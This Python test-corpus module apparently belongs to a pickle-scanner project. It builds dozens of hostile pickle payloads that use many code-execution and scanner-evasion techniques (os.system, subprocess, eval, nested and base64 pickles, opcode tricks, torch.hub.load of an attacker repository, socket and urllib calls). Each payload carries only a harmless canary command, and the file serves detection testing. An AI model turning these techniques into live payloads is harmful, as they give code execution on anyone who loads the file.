"""Hostile pickles for the corpus: every one carries a harmless canary payload.

If any of them ever ran, it would create (or try to reach) the canary path and nothing else: the
corpus test asserts the canary never appears. Most are built with the real pickler from
:class:`Call` objects (a ``__reduce__`` that names the callable), the opcode-level tricks with
:class:`~tests.scan.corpus.pickle_asm.Asm`. Nothing here is ever unpickled.
"""

from __future__ import annotations

import base64
import builtins
import code
import cProfile
import ctypes
import functools
import importlib
import marshal
import multiprocessing.process
import operator
import os
import pickle
import profile
import pty
import pydoc
import runpy
import shutil
import socket
import subprocess
import timeit
import urllib.request
import webbrowser
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.scan.corpus.pickle_asm import Asm, call_pickle


class Call:
    """Pickles as ``fn(*args)``: the pickler writes the callable's global and a REDUCE.

    Callable itself, so a ``Call`` can stand where the pickler expects a callable (chains).
    """

    def __init__(self, fn: Any, *args: Any) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.fn, self.args

    def __call__(self, *args: Any) -> Any:  # pragma: no cover - never called; pickler needs it
        raise RuntimeError("corpus payloads are never called")


@dataclass(frozen=True)
class Payload:
    name: str
    technique: str
    data: bytes


def _dumps(obj: Any, proto: int = 4) -> bytes:
    return pickle.dumps(obj, protocol=proto)


def shell(canary: str) -> str:
    return f"touch {canary}"


def pysrc(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def canary_object(canary: str) -> Call:
    """The payload object embedded in containers (joblib, npy, torch): ``os.system('touch …')``."""
    return Call(os.system, shell(canary))


def _asm_payloads(c: str) -> list[Payload]:
    cmd = shell(c)
    out: list[Payload] = []
    add = out.append

    add(Payload("global_os_system", "GLOBAL os.system (protocol 0 text opcodes)",
                Asm(None).global_("os", "system").mark().string0(cmd).tuple_().reduce().stop().bytes()))
    add(Payload("global_nt_system", "GLOBAL nt.system", call_pickle("nt", "system", cmd)))
    add(Payload("py2_builtin_eval", "__builtin__.eval (Python 2 name mapped by fix_imports)",
                call_pickle("__builtin__", "eval", pysrc(c))))
    # STACK_GLOBAL whose module and name come from the memo, not from literals beside it
    add(Payload("stack_global_memo", "STACK_GLOBAL with memo-built names",
                Asm(4).unicode("o" + "s").memoize().pop().unicode("sys" + "tem").memoize().pop()
                .raw(b"h\x00h\x01").stack_global_op().unicode(cmd).tuple1().reduce().stop().bytes()))
    add(Payload("stack_global_dup", "STACK_GLOBAL with names put/got through BINPUT",
                Asm(4).unicode("subprocess").put(7).unicode("getoutput").put(9).pop().pop()
                .get(7).get(9).stack_global_op().unicode(cmd).tuple1().reduce().stop().bytes()))
    add(Payload("inst_os_system", "INST opcode (class-style call of os.system)",
                Asm(0).mark().string0(cmd).inst("os", "system").stop().bytes()))
    add(Payload("obj_subprocess_popen", "OBJ opcode calling subprocess.Popen",
                Asm(1).mark().global_("subprocess", "Popen").mark().unicode("touch").unicode(c)
                .raw(b"l").stop().bytes().replace(b"l.", b"lo.")))
    add(Payload("newobj_popen", "NEWOBJ of subprocess.Popen",
                Asm(2).global_("subprocess", "Popen").mark().unicode(cmd).tuple_().newobj()
                .stop().bytes()))
    add(Payload("newobj_ex_popen", "NEWOBJ_EX of subprocess.Popen with kwargs",
                Asm(4).stack_global("subprocess", "Popen").mark().unicode(cmd).tuple_()
                .empty_dict().unicode("shell").raw(b"\x88").setitem().newobj_ex().stop().bytes()))
    # BUILD smuggling: an innocuous-looking object whose state carries a dangerous callable that a
    # later REDUCE calls (through functools.partial's __setstate__)
    add(Payload("build_partial_smuggle", "BUILD sets functools.partial state to os.system",
                Asm(2).global_("functools", "partial").global_("builtins", "print").tuple1()
                .newobj().mark().global_("os", "system").mark().unicode(cmd).tuple_().empty_dict()
                .none().tuple_().build().empty_tuple().reduce().stop().bytes()))
    add(Payload("build_dict_smuggle", "BUILD puts os.system into an object's __dict__",
                Asm(2).global_("argparse", "Namespace").empty_tuple().newobj().empty_dict()
                .unicode("__reduce_ex__").global_("os", "system").setitem().build()
                .stop().bytes()))
    for op, code_ in (("ext1", 0x7F), ("ext2", 0x1234), ("ext4", 0x123456)):
        asm = Asm(2)
        getattr(asm, op)(code_)
        add(Payload(f"{op}_reduce", f"{op.upper()} extension-registry import, then REDUCE",
                    asm.mark().unicode(cmd).tuple_().reduce().stop().bytes()))
    body = Asm(2).call("os", "system", cmd).bytes()
    add(Payload("truncated_after_payload", "REDUCE then truncated (no STOP)", body))
    add(Payload("garbage_after_payload", "valid pickle then trailing garbage",
                body + b"." + bytes(range(256)) * 3))
    benign = pickle.dumps({"weights": [1.0, 2.0], "epoch": 3}, protocol=2)
    add(Payload("concat_benign_then_evil", "two pickles concatenated, the second hostile",
                benign + call_pickle("os", "system", cmd)))
    add(Payload("concat_three", "three pickles, hostile in the middle",
                benign + call_pickle("subprocess", "getoutput", cmd, proto=3) + benign))
    add(Payload("proto_change_midstream", "PROTO 2 pickle followed by a PROTO 5 one",
                pickle.dumps([1, 2, 3], protocol=2)
                + Asm(5).stack_global("os", "system").unicode(cmd).tuple1().reduce().stop().bytes()))
    add(Payload("proto_opcode_inside", "PROTO opcode repeated inside one pickle",
                Asm(2).empty_list().proto(4).stack_global("os", "system").unicode(cmd).tuple1()
                .reduce().append().stop().bytes()))
    add(Payload("fork_exec", "_posixsubprocess.fork_exec",
                Asm(2).global_("_posixsubprocess", "fork_exec").mark()
                .mark().binbytes(b"/usr/bin/touch").tuple_().mark().binbytes(b"/usr/bin/touch")
                .tuple_().raw(b"\x88").none().none().unicode(c).tuple_().reduce().stop().bytes()))
    add(Payload("distutils_write_file", "distutils.file_util.write_file",
                Asm(2).global_("distutils.file_util", "write_file").mark().unicode(c).mark()
                .unicode("x").raw(b"l").tuple_().reduce().stop().bytes()))
    add(Payload("torch_hub_load", "torch.hub.load of an attacker repository",
                call_pickle("torch.hub", "load", "attacker/models", "evil", proto=2)))
    add(Payload("torch_collect_env_run", "torch.utils.collect_env.run (runs a shell command)",
                call_pickle("torch.utils.collect_env", "run", cmd)))
    add(Payload("pip_internal_main", "pip._internal.main installs a package",
                Asm(2).global_("pip._internal", "main").mark().mark().unicode("install")
                .unicode("--no-index").unicode("--target").unicode(c).unicode("mlwarden-canary")
                .raw(b"l").tuple_().reduce().stop().bytes()))
    add(Payload("ensurepip_run_pip", "ensurepip._run_pip",
                Asm(2).global_("ensurepip", "_run_pip").mark().mark().unicode("--version")
                .raw(b"l").tuple_().reduce().stop().bytes()))
    add(Payload("idlelib_calltip", "idlelib.calltip.get_entity evals its argument",
                call_pickle("idlelib.calltip", "get_entity", pysrc(c))))
    add(Payload("idlelib_autocomplete", "idlelib.autocomplete.AutoComplete.get_entity (eval)",
                Asm(4).stack_global("idlelib.autocomplete", "AutoComplete.get_entity").none()
                .unicode(pysrc(c)).tuple2().reduce().stop().bytes()))
    add(Payload("asyncio_shell_global", "asyncio.create_subprocess_shell (GLOBAL)",
                call_pickle("asyncio", "create_subprocess_shell", cmd)))
    add(Payload("numpy_runstring", "numpy.testing._private.utils.runstring (exec)",
                Asm(2).global_("numpy.testing._private.utils", "runstring").unicode(pysrc(c))
                .empty_dict().tuple2().reduce().stop().bytes()))
    return out


def _pickler_payloads(c: str) -> list[Payload]:
    cmd, src = shell(c), pysrc(c)
    argv = ["touch", c]
    mod_os = Call(importlib.import_module, "os")
    spec: list[tuple[str, str, Any]] = [
        ("subprocess_popen", "subprocess.Popen", Call(subprocess.Popen, argv)),
        ("subprocess_check_output", "subprocess.check_output", Call(subprocess.check_output, argv)),
        ("subprocess_run", "subprocess.run", Call(subprocess.run, argv)),
        ("subprocess_call", "subprocess.call", Call(subprocess.call, argv)),
        ("subprocess_getoutput", "subprocess.getoutput", Call(subprocess.getoutput, cmd)),
        ("os_popen", "os.popen", Call(os.popen, cmd)),
        ("os_remove", "os.remove", Call(os.remove, c + ".victim")),
        ("builtins_exec", "builtins.exec", Call(builtins.exec, src)),
        ("builtins_eval", "builtins.eval", Call(builtins.eval, src)),
        ("builtins_open_write", "builtins.open for writing", Call(builtins.open, c, "w")),
        ("builtins_compile_exec", "builtins.compile then exec",
         Call(builtins.exec, Call(builtins.compile, src, "<corpus>", "exec"))),
        ("getattr_import_chain", "builtins.getattr(__import__('os'), 'system')",
         Call(Call(builtins.getattr, Call(builtins.__import__, "os"), "system"), cmd)),
        ("dunder_import_posix", "__import__('posix').system via getattr",
         Call(Call(getattr, Call(__import__, "posix"), "system"), cmd)),
        ("importlib_import_module", "importlib.import_module + getattr",
         Call(Call(getattr, mod_os, "system"), cmd)),
        ("runpy_run_path", "runpy.run_path", Call(runpy.run_path, c + ".py")),
        ("runpy_run_module", "runpy.run_module", Call(runpy.run_module, "mlwarden_canary_mod")),
        ("timeit_timeit", "timeit.timeit runs its stmt", Call(timeit.timeit, src, "pass", None, 1)),
        ("cprofile_run", "cProfile.run", Call(cProfile.run, src)),
        ("profile_run", "profile.run", Call(profile.run, src)),
        ("code_interactive_interpreter", "code.InteractiveInterpreter.runsource",
         Call(code.InteractiveInterpreter.runsource, Call(code.InteractiveInterpreter), src)),
        ("code_interactive_console_push", "code.InteractiveConsole.push",
         Call(code.InteractiveConsole.push, Call(code.InteractiveConsole), src)),
        ("pydoc_locate", "pydoc.locate('os.system')", Call(Call(pydoc.locate, "os.system"), cmd)),
        ("operator_attrgetter", "operator.attrgetter('system')(os)",
         Call(Call(Call(operator.attrgetter, "system"), mod_os), cmd)),
        ("operator_methodcaller", "operator.methodcaller('system', cmd)(os)",
         Call(Call(operator.methodcaller, "system", cmd), mod_os)),
        ("multiprocessing_process", "multiprocessing Process(target=os.system).start()",
         Call(multiprocessing.process.BaseProcess.start,
              Call(multiprocessing.Process, None, os.system, None, (cmd,)))),
        ("ctypes_cdll", "ctypes.CDLL(None).system",
         Call(Call(getattr, Call(ctypes.CDLL, None), "system"), cmd.encode())),
        ("webbrowser_open", "webbrowser.open", Call(webbrowser.open, "file://" + c)),
        ("shutil_rmtree", "shutil.rmtree", Call(shutil.rmtree, c + ".dir")),
        ("pty_spawn", "pty.spawn", Call(pty.spawn, argv)),
        ("socket_connect", "socket.create_connection (exfiltration)",
         Call(socket.create_connection, ("127.0.0.1", 9))),
        ("urllib_urlopen", "urllib.request.urlopen", Call(urllib.request.urlopen, "http://127.0.0.1:9/c")),
        ("functools_partial", "functools.partial(os.system, cmd)()",
         Call(Call(functools.partial, os.system, cmd))),
        ("nested_pickle_loads", "pickle.loads of an inner hostile pickle",
         Call(pickle.loads, call_pickle("os", "system", cmd))),
        ("nested_pickle_base64", "pickle.loads(base64.b64decode(...))",
         Call(pickle.loads, Call(base64.b64decode, base64.b64encode(call_pickle("os", "system", cmd))))),
    ]
    out = [Payload(name, tech, _dumps(obj)) for name, tech, obj in spec]
    # the pickler writes bytes as _codecs.encode(str, 'latin1') in protocol 2: a nested pickle
    out.append(Payload("nested_pickle_codecs", "pickle.loads(_codecs.encode(…)) in protocol 2",
                       _dumps(Call(pickle.loads, call_pickle("os", "system", cmd)), proto=2)))
    code_bytes = marshal.dumps(compile(src, "<corpus>", "exec"))
    out.append(Payload("marshal_function", "types.FunctionType(marshal.loads(…), {})()",
                       Asm(2).global_("types", "FunctionType").global_("marshal", "loads")
                       .binbytes(code_bytes).tuple1().reduce().empty_dict().tuple2().reduce()
                       .empty_tuple().reduce().stop().bytes()))
    out.append(Payload("nested_c_pickle", "_pickle.loads of an inner pickle",
                       Asm(2).global_("_pickle", "loads").binbytes(call_pickle("os", "system", cmd))
                       .tuple1().reduce().stop().bytes()))
    out.append(Payload("asyncio_create_subprocess_shell", "asyncio.run(create_subprocess_shell())",
                       _dumps(Call(_asyncio_run(), Call(_asyncio_shell(), cmd)))))
    return out


def _asyncio_run() -> Callable[..., Any]:
    import asyncio

    return asyncio.run


def _asyncio_shell() -> Callable[..., Any]:
    import asyncio

    return asyncio.create_subprocess_shell


def protocol_payloads(c: str) -> list[Payload]:
    """``os.system`` (pickled as ``posix.system``) through the real pickler, protocols 0–5."""
    return [Payload(f"reduce_system_p{p}", f"__reduce__ → posix.system, protocol {p}",
                    pickle.dumps(canary_object(c), protocol=p)) for p in range(6)]


def all_pickle_payloads(canary: str) -> list[Payload]:
    payloads = protocol_payloads(canary) + _asm_payloads(canary) + _pickler_payloads(canary)
    names = [p.name for p in payloads]
    if len(set(names)) != len(names):
        raise AssertionError("duplicate payload names")
    return payloads
